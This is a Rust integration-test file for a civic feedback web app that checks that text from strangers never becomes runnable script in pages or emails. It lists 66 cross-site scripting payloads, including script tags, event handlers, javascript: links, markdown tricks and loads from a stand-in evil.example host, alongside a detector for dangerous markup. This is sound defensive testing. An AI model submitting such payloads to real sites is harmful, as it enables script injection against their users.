@@ -1,0 +1,218 @@
+//! Words of strangers stay words: nothing they write runs, on any page or in any mail.
+
+use super::{draft, letters, said};
+use besa_domain::access::{ModerateVoices, Permit, Respond, Role};
+use besa_domain::people;
+use besa_domain::responses::{self, Outcome, ResponseDraft};
+use besa_domain::voices::{self, About, Draft, HideRule, VoiceKind};
+use besa_tests::{Answer, TestApp};
+use poem::Request;
+use poem::http::header;
+use scraper::{Html, Node};
+
+/// What people send who want something to run.
+const PAYLOADS: [&str; 66] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" onerror=\"alert(1)\">",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<form action=javascript:alert(1)><button>x",
+    "<button formaction=javascript:alert(1)>x",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<div style=\"background:url(javascript:alert(1))\">",
+    "<p style=behavior:url(x)>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](//evil.example)",
+    "[x](/elbasan/en/w/)",
+    "[x]( javascript:alert(1) \"title\")",
+    "[x](https://ok.example\"onmouseover=alert(1))",
+    "[x](https://ok.example 'onmouseover=alert(1)')",
+    "![x](javascript:alert(1))",
+    "![x\" onerror=\"alert(1)](https://ok.example/x.png)",
+    "<javascript:alert(1)>",
+    "<https://ok.example/\" onclick=alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "`<img src=x onerror=alert(1)>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "> <script>alert(1)</script>",
+    "* <img src=x onerror=alert(1)>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "{{ 7 * 7 }} {% include 'x' %} ${alert(1)} %3Cscript%3Ealert(1)%3C/script%3E",
+];
+
+/// What would run or fetch in a document, were it opened. A page's own scripts and pictures are its
+/// own files.
+fn dangers(html: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for node in Html::parse_document(html).tree.values() {
+        let Node::Element(element) = node else { continue };
+        let name = element.name();
+        let own = element.attr("src").is_some_and(|src| src.starts_with("/assets/"));
+        let fetches = [
+            "iframe", "object", "embed", "base", "img", "video", "audio", "source", "marquee", "isindex",
+        ];
+        if fetches.contains(&name) || (name == "script" && !own) {
+            found.push(format!("<{name}>"));
+        }
+        for (attribute, value) in element.attrs() {
+            let plain: String = value
+                .chars()
+                .filter(|c| !c.is_whitespace() && !c.is_control())
+                .collect();
+            let plain = plain.to_lowercase();
+            let address = [
+                "href",
+                "src",
+                "action",
+                "formaction",
+                "data",
+                "xlink:href",
+                "content",
+                "srcdoc",
+            ]
+            .contains(&attribute);
+            let runs = ["javascript:", "vbscript:", "data:text"]
+                .iter()
+                .any(|scheme| plain.starts_with(scheme) || plain.contains(&format!("url={scheme}")));
+            if attribute.starts_with("on")
+                || attribute == "srcdoc"
+                || (address && runs)
+                || plain.contains("evil.example") && address
+            {
+                found.push(format!("<{name} {attribute}={value}>"));
+            }
+        }
+    }
+    found
+}
+
+#[test]
+fn the_test_sees_what_would_run() {
+    assert_eq!(
+        dangers("<p>x <a href='https://x.example'>y</a></p>"),
+        Vec::<String>::new()
+    );
+    for bad in [
+        "<script>1</script>",
+        "<p onclick=x>",
+        "<a href=' JavaScript:x'>",
+        "<img src=x>",
+        "<iframe>",
+    ] {
+        assert!(!dangers(bad).is_empty(), "{bad}");
+    }
+}
+
+#[tokio::test]
+async fn nothing_that_is_written_runs() {
+    let app = TestApp::new().await;
+    let sample = app.sample("elbasan").await;
+    let coordinator = app.person("coordinator", &sample.city, Role::Coordinator).await;
+    let on = About::Commitment(sample.commitment.id);
+    let (respond, moderate) = (
+        Permit::<Respond>::system(sample.city.id),
+        Permit::<ModerateVoices>::system(sample.city.id),
+    );
+    let db = &app.app.db;
+    let mut pages = vec![
+        "/elbasan/en/plan".to_owned(),
+        "/elbasan/en/voices".to_owned(),
+        "/elbasan/en/proposals".to_owned(),
+        "/elbasan/en/log".to_owned(),
+        super::PAGE.to_owned(),
+    ];
+    for (at, payload) in PAYLOADS.iter().enumerate() {
+        let person = app.stranger(&format!("p{at}")).await;
+        let name = (!payload.contains("://")).then(|| payload.replace(['\n', '\t'], " "));
+        let comment = Draft {
+            name: name.clone(),
+            ..draft(on, payload)
+        };
+        let comment = said(&app, &person, comment).await;
+        let proposal = Draft {
+            kind: VoiceKind::Proposal,
+            title: Some(payload.replace(['\n', '\t'], " ")),
+            ..draft(About::Plan(sample.plan.id), payload)
+        };
+        let proposal = said(&app, &person, proposal).await;
+        let answer = ResponseDraft {
+            outcome: Outcome::Accepted,
+            reason: Some((*payload).to_owned()),
+            changed: Some((*payload).to_owned()),
+            about: Some(on),
+            office: Some(payload.replace(['\n', '\t'], " ")),
+        };
+        responses::respond(db, &respond, None, &[comment.id, proposal.id], answer)
+            .await
+            .unwrap();
+        let held = said(&app, &person, draft(on, payload)).await;
+        if at % 2 == 0 {
+            let words = payload.replace(['\n', '\t'], " ");
+            voices::hide(db, &moderate, held.id, held.version, HideRule::Spam, &words)
+                .await
+                .unwrap();
+        }
+        pages.push(format!("/elbasan/en/voices/{}", comment.id));
+        pages.push(format!("/elbasan/en/proposals/{}", proposal.id));
+    }
+    for path in &pages {
+        let html = app.get(path).await.is(200).text();
+        assert_eq!(dangers(&html), Vec::<String>::new(), "{path}");
+    }
+    let link = people::link(db, coordinator.account.id).await.unwrap();
+    let session = people::sign_in_by_link(db, &link).await.unwrap();
+    for shelf in ["waiting", "answered", "hidden"] {
+        let request = Request::builder()
+            .uri_str(format!("/elbasan/en/w/voices?shelf={shelf}"))
+            .header(header::COOKIE, format!("besa_session={}", session.secret))
+            .finish();
+        let html = Answer::to(&app, request, None).await.is(200).text();
+        assert_eq!(dangers(&html), Vec::<String>::new(), "{shelf}");
+    }
+    let mails = letters(&app).await;
+    assert!(mails.len() > PAYLOADS.len() * 4, "{}", mails.len());
+    for mail in mails {
+        assert_eq!(dangers(&mail.html), Vec::<String>::new(), "{}", mail.subject);
+        assert!(!mail.subject.contains(['\r', '\n']));
+    }
+}
